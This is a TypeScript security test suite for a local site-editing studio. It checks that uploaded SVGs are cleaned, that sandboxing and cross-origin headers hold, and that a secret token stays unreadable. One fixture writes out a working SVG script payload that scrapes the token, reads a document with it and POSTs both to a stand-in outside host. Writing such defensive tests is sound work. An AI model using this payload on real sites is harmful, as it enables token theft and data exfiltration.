import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import type { StudioImage } from '../../../src/studio/logic/transport/protocol';
import { tokenHeader } from '../../../src/desk/local/http-names';
import { listen, stop } from '../../harness/leads/site';
import { patience } from '../../harness/studio/editor-page';
import { studioUnderTest, tokenOf } from '../../harness/studio/open-studio';

/** No other page in the same browser, from this machine or elsewhere, gets anything from the studio's origin. */

const studio = studioUnderTest();
let server: Server;
/** The address of the other page, under a name that resolves to this machine. */
let elsewhere: string;
/** The data that reached it. */
const loot: string[] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    if (request.method === 'POST') request.on('data', (chunk: Buffer) => loot.push(chunk.toString()));
    request.resume().on('end', () => {
      response.setHeader('content-type', 'text/html');
      response.end('<!doctype html><title>Ailleurs</title>');
    });
  });
  elsewhere = (await listen(server)).replace('127.0.0.1', 'localhost');
});
afterAll(() => stop(server));

const drawing = () => path.join(studio.folder, 'media/attaque.svg');

/** Steals the token, uses it to read a document, and sends both away. */
const attack = () => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1"/><script><![CDATA[
(async () => {
  const send = (body) => fetch('${elsewhere}/', { method: 'POST', mode: 'no-cors', body });
  send('It runs: ' + location.href);
  const token = /name="studio-token" content="([^"]+)"/.exec(await (await fetch('/atelier/')).text())?.[1];
  send('token ' + token);
  const document = await fetch('/atelier/api/document?file=home.json', { headers: { '${tokenHeader}': token } });
  send(await document.text());
})();
]]></script></svg>`;

/** The addresses of the drawing: the one that the studio shows, and that of the file. */
async function addressesOfDrawing(): Promise<string[]> {
  writeFileSync(drawing(), attack());
  const headers = { [tokenHeader]: await tokenOf(studio.origin()) };
  const shown = await vi.waitFor(async () => {
    const images = (await (await fetch(`${studio.origin()}/atelier/api/media`, { headers })).json()) as StudioImage[];
    const found = images.find(({ src }) => src === 'media/attaque.svg');
    if (!found) throw new Error('The drawing has not been seen yet.');
    return found.url;
  }, patience);
  const hash = createHash('sha256').update(attack()).digest('hex').slice(0, 8);
  return [shown, `/media/attaque.${hash}.svg`, '/media/attaque.svg', '/site-config/media/attaque.svg'];
}

const ours = () => [studio.origin(), studio.origin().replace('127.0.0.1', 'localhost')];

/**
 * Waits until pending work in a page is done: the page makes several requests to its own server, one after the other.
 */
const settle = (page: Page) =>
  page.evaluate(async () => {
    for (let turn = 0; turn < 30; turn++) await (await fetch('/')).text();
  });

test('a drawing with a script, framed or opened by a page of another port, runs nothing', async () => {
  const addresses = (await addressesOfDrawing()).flatMap((address) => ours().map((origin) => origin + address));
  const page = await studio.blank();
  await page.goto(elsewhere);
  await page.evaluate(async (all) => {
    const framed = all.map(
      (src) =>
        new Promise((resolve) => {
          const frame = Object.assign(document.createElement('iframe'), { src, onload: resolve });
          document.body.append(frame);
        }),
    );
    await Promise.all(framed);
  }, addresses);
  await settle(page);
  for (const address of addresses.slice(0, 2)) {
    await page.goto(address);
    expect(await page.locator('svg > script').count()).toBe(0);
  }
  await page.goto(elsewhere);
  await settle(page);
  expect(loot).toEqual([]);
  rmSync(drawing());
});

test('stored drawings are cleaned, and run nothing even when opened directly', async () => {
  const [shown = ''] = await addressesOfDrawing();
  const answer = await fetch(studio.origin() + shown);
  expect(await answer.text()).toBe(
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1"/></svg>\n',
  );
  expect(answer.headers.get('content-type')).toBe('image/svg+xml');
  for (const address of [shown, '/vitrine-icons.svg']) {
    const { headers } = await fetch(studio.origin() + address);
    expect(headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'; style-src 'unsafe-inline'/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  }
  rmSync(drawing());
});

test('another origin can read, show and frame nothing of this one', async () => {
  const page = await studio.blank();
  await page.goto(studio.origin());
  const picture = await page
    .locator('img[src^="/media/"]')
    .first()
    .evaluate((image: HTMLImageElement) => image.currentSrc);
  const paths = [
    '/',
    '/atelier/',
    '/atelier/blocs',
    '/atelier/preview/',
    '/bureau/',
    '/src/page/entries/loader.ts',
    '/@vite/client',
  ];
  const addresses = [...ours().flatMap((origin) => paths.map((found) => origin + found)), picture];
  await page.goto(elsewhere);
  const obtained = await page.evaluate(async (all) => {
    const found: string[] = [];
    const loaded = (address: string, tag: 'img' | 'script' | 'link' | 'iframe') =>
      new Promise<boolean>((resolve) => {
        const element = document.createElement(tag);
        element.addEventListener('load', () => resolve(true));
        element.addEventListener('error', () => resolve(false));
        if (tag === 'link') element.setAttribute('rel', 'stylesheet');
        element.setAttribute(tag === 'link' ? 'href' : 'src', address);
        document.head.append(element);
      });
    for (const address of all) {
      for (const mode of ['cors', 'no-cors'] as const)
        await fetch(address, { mode }).then(
          () => found.push(`fetch ${mode} ${address}`),
          () => undefined,
        );
      for (const tag of ['img', 'script', 'link'] as const)
        if (await loaded(address, tag)) found.push(`${tag} ${address}`);
      document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
    }
    return found;
  }, addresses);
  expect(obtained).toEqual([]);
  await settle(page);
  const framed = page.frames().map((frame) => frame.url());
  expect(framed.filter((url) => ours().some((origin) => url.startsWith(origin)))).toEqual([]);
  expect(framed.length).toBe(addresses.length + 1);
});

test.each(['/', '/atelier/', '/bureau/'])(
  'another origin loses its window once it has opened %s in it',
  async (address) => {
    const page = await studio.blank();
    await page.goto(elsewhere);
    const opening = page.waitForEvent('popup');
    await page.evaluate((url) => Object.assign(window, { opened: window.open(url) }), studio.origin() + address);
    await (await opening).waitForLoadState('domcontentloaded');
    // A browser reports this for a window of another browsing context group (Cross-Origin-Opener-Policy).
    const isLost = () => page.evaluate(() => (window as unknown as { opened: Window }).opened.closed);
    await expect.poll(isLost, patience).toBe(true);
  },
);

test('not even a script of the same origin can read a page with a token', async () => {
  const page = await studio.blank();
  await page.goto(studio.origin());
  const read = await page.evaluate(async () => {
    const found: string[] = [];
    for (const address of ['/atelier/', '/atelier/blocs', '/bureau/']) {
      const answer = await fetch(address);
      found.push(`${answer.status} ${/token|cle|key/.test(await answer.text())}`);
    }
    return found;
  });
  expect(read).toEqual(['403 false', '403 false', '403 false']);
});

test.each([
  ['/', 'text/html'],
  ['/introuvable', 'text/html'],
  ['/site-data.json', '*/*'],
  ['/.local/leads.lock', '*/*'],
  ['/src/page/entries/loader.ts', '*/*'],
  ['/@vite/client', '*/*'],
  ['/node_modules/vite/dist/client/env.mjs', '*/*'],
  ['/vitrine-icons.svg', 'image/*'],
  ['/atelier', 'text/html'],
  ['/atelier/', 'text/html'],
  ['/atelier/preview/', 'text/html'],
  ['/atelier/preview/main.js', '*/*'],
  ['/atelier/api/site', '*/*'],
  ['/bureau', 'text/html'],
  ['/bureau/', 'text/html'],
  ['/bureau/api/list', '*/*'],
  ['/rest/v1/leads', '*/*'],
])('%s has headers that restrict reading and framing', async (address, accept) => {
  const { headers } = await fetch(studio.origin() + address, { headers: { accept }, redirect: 'manual' });
  expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  const closed = ['/atelier/', '/bureau/', '/vitrine-icons.svg'].includes(address);
  expect(headers.get('content-security-policy')).toContain(`frame-ancestors ${closed ? "'none'" : "'self'"}`);
});
